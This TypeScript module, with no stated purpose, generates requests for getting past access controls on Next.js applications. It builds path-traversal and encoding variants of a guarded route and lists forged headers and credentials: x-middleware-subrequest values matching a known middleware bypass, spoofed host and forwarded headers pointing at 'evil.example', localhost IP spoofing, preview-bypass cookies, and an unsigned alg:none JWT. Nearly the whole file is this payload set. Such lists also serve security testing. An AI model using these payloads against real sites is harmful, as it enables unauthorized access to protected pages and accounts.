/** Returns the forms in which a guarded address can be written. */
export function detours(address: string): string[] {
  const name = address.slice(1);
  const first = `%${name.charCodeAt(0).toString(16)}${name.slice(1)}`;
  return [
    `/${name}`,
    `/${name}/`,
    `//${name}`,
    `/./${name}`,
    `/%2e/${name}`,
    `/login/../${name}`,
    `/login/%2e%2e/${name}`,
    `/login/..;/${name}`,
    `/${first}`,
    `/${name.toUpperCase()}`,
    `/${name}%2f`,
    `/${name}%20`,
    `/${name}%09`,
    `/${name};a=b`,
    `/${name}.rsc`,
    `/${name}.txt`,
    `/${name}.json`,
    `/${name}/index`,
    `/${name}.segments/_tree.segment.rsc`,
    `/_next/data/development/${name}.json`,
    `/${name}?_rsc=1a2b3`,
    `/${name}?__nextDataReq=1`,
    `/${name}?__nextLocale=en`,
    `/en/${name}`,
    `/(member)/${name}`,
    `/(member)/${name}/page`,
    `/\\${name}`,
    `/viewer/../${name}`,
  ];
}

const SUBREQUESTS = ['middleware', 'src/middleware', 'pages/_middleware', 'middleware.ts'].flatMap(
  (name) => [name, Array.from({ length: 5 }, () => name).join(':')],
);
const TREE = encodeURIComponent('["",{"children":["__PAGE__",{}]},null,"refetch"]');
const NO_SIGNATURE = 'eyJhbGciOiJub25lIn0.eyJzaWQiOiJ4In0.';

/** Headers that Next, proxies or frameworks have been known to trust. */
export const ASIDES: Record<string, string>[] = [
  {},
  ...SUBREQUESTS.map((value) => ({ 'x-middleware-subrequest': value })),
  { 'x-middleware-prefetch': '1' },
  { 'x-middleware-next': '1' },
  { 'x-middleware-invoke': '1' },
  { 'x-middleware-rewrite': '/profile' },
  { 'x-middleware-override-headers': 'cookie', 'x-middleware-request-cookie': 'a=b' },
  { 'x-nextjs-data': '1' },
  { rsc: '1' },
  { rsc: '1', 'next-router-prefetch': '1' },
  { rsc: '1', 'next-router-segment-prefetch': '/_tree' },
  { rsc: '1', 'next-router-state-tree': TREE },
  { accept: 'text/x-component' },
  { 'next-action': '0'.repeat(40) },
  { 'next-resume': '1' },
  { 'x-matched-path': '/profile' },
  { 'x-now-route-matches': '1=profile' },
  { 'x-invoke-path': '/profile', 'x-invoke-status': '200' },
  { 'x-invoke-output': '/profile' },
  { 'x-original-url': '/profile' },
  { 'x-rewrite-url': '/profile' },
  { 'x-forwarded-host': 'evil.example', 'x-forwarded-proto': 'https' },
  { 'x-forwarded-for': '127.0.0.1', 'x-real-ip': '127.0.0.1' },
  { 'x-client-address': '127.0.0.1' },
  { host: 'evil.example' },
  { 'x-prerender-revalidate': '1' },
  { 'x-prerender-bypass-mode': 'static' },
  { cookie: '__prerender_bypass=1; __next_preview_data=1' },
  { cookie: 'next-auth.session-token=x' },
  { cookie: `next-auth.session-token=${NO_SIGNATURE}` },
  { cookie: '__Secure-next-auth.session-token=x' },
  { authorization: `Bearer ${NO_SIGNATURE}` },
  { authorization: 'Bearer null' },
];
